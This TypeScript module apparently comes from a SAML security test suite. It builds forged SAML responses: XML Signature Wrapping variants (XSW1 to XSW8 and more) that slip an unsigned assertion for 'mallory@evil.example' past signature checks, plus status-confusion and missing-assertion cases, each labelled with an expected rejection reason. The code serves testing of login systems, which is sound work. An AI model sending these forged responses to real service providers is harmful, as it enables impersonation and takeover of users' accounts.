import type { AttackCase, AttackContext } from '../attack';
import { assertionXml, buildResponse, edit, newId, toField, type BuiltResponse } from '../build-response';

export const MALLORY = 'mallory@evil.example';

const SIGNATURE = /<ds:Signature[\s>].*?<\/ds:Signature>/s;
const ASSERTION = /<saml:Assertion[\s>].*<\/saml:Assertion>/s;

interface Parts extends BuiltResponse {
  /** The signed response without its own signature. */
  readonly bare: string;
  readonly responseSignature: string;
  readonly assertionSignature: string;
  readonly bareAssertion: string;
  /** The assertion of the attacker: same but for its id and its name. */
  readonly evil: string;
}

async function parts({ target }: AttackContext): Promise<Parts> {
  const built = await buildResponse(target);
  const [responseSignature = '', assertionSignature = ''] =
    built.xml.match(new RegExp(SIGNATURE, 'gs')) ?? [];
  const bareAssertion = edit(built.assertion, SIGNATURE, '');
  const evil = edit(edit(bareAssertion, built.assertionId, newId()), target.nameId, MALLORY);
  return {
    ...built,
    bare: edit(built.xml, responseSignature, ''),
    responseSignature,
    assertionSignature,
    bareAssertion,
    evil,
  };
}

function into(container: string, closing: string, addition: string): string {
  return edit(container, closing, `${addition}${closing}`);
}

function wrapping(
  name: string,
  make: (parts: Parts, context: AttackContext) => string,
  reason: AttackCase['reason'] = 'several-assertions',
): AttackCase {
  return {
    name,
    reason,
    build: async (context) => ({ samlResponse: toField(make(await parts(context), context)) }),
  };
}

/** The response of the attacker: the signed one with another id, name and assertion. */
function evilResponse({ bare, responseId, evil }: Parts): string {
  return edit(edit(bare, responseId, newId()), ASSERTION, evil);
}

function afterStatus(response: string, addition: string): string {
  return edit(response, '</samlp:Status>', `</samlp:Status>${addition}`);
}

export const WRAPPING: readonly AttackCase[] = [
  wrapping('XSW1: the signed response is copied into the signature of an evil one', (p) =>
    afterStatus(evilResponse(p), into(p.responseSignature, '</ds:Signature>', p.bare)),
  ),
  wrapping('XSW2: the signed response stands beside its signature in an evil one', (p) =>
    afterStatus(evilResponse(p), p.bare + p.responseSignature),
  ),
  wrapping('XSW3: an evil assertion stands before the signed one', (p) =>
    edit(p.xml, p.assertion, p.evil + p.assertion),
  ),
  wrapping('XSW4: the signed assertion is a child of an evil one', (p) =>
    edit(p.xml, p.assertion, into(p.evil, '</saml:Assertion>', p.assertion)),
  ),
  wrapping('XSW5: the evil assertion keeps the signature, a copy of the signed one follows', (p) =>
    edit(
      p.xml,
      p.assertion,
      edit(p.evil, '</saml:Issuer>', `</saml:Issuer>${p.assertionSignature}`) + p.bareAssertion,
    ),
  ),
  wrapping('XSW6: the copy of the signed assertion stands in the signature of the evil one', (p) =>
    edit(
      p.xml,
      p.assertion,
      edit(
        p.evil,
        '</saml:Issuer>',
        `</saml:Issuer>${into(p.assertionSignature, '</ds:Signature>', p.bareAssertion)}`,
      ),
    ),
  ),
  wrapping('XSW7: the evil assertion stands in an extension', (p) =>
    afterStatus(p.xml, `<samlp:Extensions>${p.evil}</samlp:Extensions>`),
  ),
  wrapping('XSW8: the signed assertion stands in an Object of the signature of an evil one', (p) =>
    edit(
      p.xml,
      p.assertion,
      edit(
        p.evil,
        '</saml:Issuer>',
        `</saml:Issuer>${into(p.assertionSignature, '</ds:Signature>', `<ds:Object>${p.bareAssertion}</ds:Object>`)}`,
      ),
    ),
  ),
  wrapping('XSW with the id of the signed assertion on both', (p) =>
    edit(p.xml, p.assertion, edit(p.evil, /ID="[^"]+"/, `ID="${p.assertionId}"`) + p.assertion),
  ),
  wrapping('XSW3 without the signature of the response', (p) =>
    edit(p.bare, p.assertion, p.evil + p.assertion),
  ),
  wrapping('XSW with the evil assertion last', (p) => edit(p.xml, p.assertion, p.assertion + p.evil)),
  wrapping('an evil assertion in an element that nobody knows', (p) =>
    edit(p.xml, p.assertion, `${p.assertion}<evil:Box xmlns:evil="urn:evil">${p.evil}</evil:Box>`),
  ),
  wrapping('the only assertion stands in an extension', (p) =>
    edit(p.xml, p.assertion, `<samlp:Extensions>${p.assertion}</samlp:Extensions>`),
  ),
  wrapping('an evil assertion of another namespace stands beside the signed one', (p) =>
    edit(
      p.xml,
      p.assertion,
      p.assertion +
        edit(p.evil, 'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"', 'xmlns:saml="urn:evil"'),
    ),
  ),
  wrapping('an evil response stands in an extension', (p) =>
    afterStatus(p.xml, `<samlp:Extensions>${evilResponse(p)}</samlp:Extensions>`),
  ),
  {
    name: 'a signed assertion stands in the Advice of a signed one',
    reason: 'several-assertions',
    build: async ({ target }) =>
      buildResponse(target, {
        draftAssertion: (xml) =>
          edit(
            xml,
            '</saml:Conditions>',
            `</saml:Conditions><saml:Advice>${assertionXml(target, newId(), { nameId: MALLORY })}</saml:Advice>`,
          ),
      }),
  },
  {
    name: 'two signed assertions in one signed response',
    reason: 'several-assertions',
    build: async ({ target }) => {
      const second = await buildResponse(target, { nameId: MALLORY });
      return buildResponse(target, { signedAssertion: (xml) => xml + second.assertion });
    },
  },
  {
    name: 'the same signed assertion twice',
    reason: 'several-assertions',
    build: async ({ target }) => buildResponse(target, { signedAssertion: (xml) => xml + xml }),
  },
  {
    name: 'a decoy assertion in a signed error response',
    reason: 'status',
    build: async ({ target }) =>
      buildResponse(target, { status: 'urn:oasis:names:tc:SAML:2.0:status:Responder' }),
  },
  {
    name: 'a decoy assertion, unsigned, in a signed error response',
    reason: 'status',
    build: async ({ target }) =>
      buildResponse(target, {
        status: 'urn:oasis:names:tc:SAML:2.0:status:Requester',
        assertionSignature: null,
      }),
  },
  {
    name: 'the word Success stands below an error',
    reason: 'status',
    build: async ({ target }) =>
      buildResponse(target, {
        draftResponse: (xml) =>
          edit(
            xml,
            /<samlp:StatusCode [^>]*\/>/,
            '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode>',
          ),
      }),
  },
  {
    name: 'a second Status says Success',
    reason: 'status',
    build: async ({ target }) =>
      buildResponse(target, {
        status: 'urn:oasis:names:tc:SAML:2.0:status:Responder',
        draftResponse: (xml) =>
          edit(
            xml,
            '</samlp:Status>',
            '</samlp:Status><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>',
          ),
      }),
  },
  {
    name: 'no status at all',
    reason: 'status',
    build: async ({ target }) =>
      buildResponse(target, { draftResponse: (xml) => edit(xml, /<samlp:Status>.*<\/samlp:Status>/, '') }),
  },
  {
    name: 'no assertion in a response that says Success',
    reason: 'no-assertion',
    build: async ({ target }) => buildResponse(target, { draftResponse: (xml) => edit(xml, ASSERTION, '') }),
  },
  {
    name: 'a response in a response, and no assertion',
    reason: 'no-assertion',
    build: async ({ target }) =>
      buildResponse(target, { draftResponse: (xml) => edit(xml, ASSERTION, '<samlp:Response/>') }),
  },
  {
    name: 'an unknown element in the response',
    reason: 'malformed',
    build: async ({ target }) =>
      buildResponse(target, {
        draftResponse: (xml) =>
          edit(xml, '</samlp:Status>', '</samlp:Status><evil:Box xmlns:evil="urn:evil"/>'),
      }),
  },
];
